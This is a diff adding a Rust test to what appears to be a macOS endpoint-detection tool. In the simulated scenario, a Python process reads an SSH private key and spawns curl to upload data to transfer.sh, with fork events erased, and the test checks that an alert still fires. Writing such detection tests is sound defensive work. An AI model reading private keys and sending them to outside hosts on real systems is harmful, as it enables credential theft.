@@ -401,3 +401,15 @@ fn m29_drop_into_icloud() {
     w.policy = format!("{CORP}\n[builtin]\ndisable = [\"icloud-daemons\"]\n");
     w.tell().alert();
 }
+
+/// No fork event was recorded: the child's token names its parent.
+#[test]
+fn m06_without_fork_events() {
+    let mut w = World::new();
+    let p = w.launch(0.0, PYTHON, &["python3", "x.py"]);
+    w.open(1.0, &p, "/Users/alice/.ssh/id_rsa");
+    let curl = w.spawn(2.0, &p, CURL, &["curl", "https://transfer.sh/"]);
+    w.upload(2.2, &curl, "transfer.sh", 5_000);
+    w.forget_forks();
+    w.tell().alert();
+}
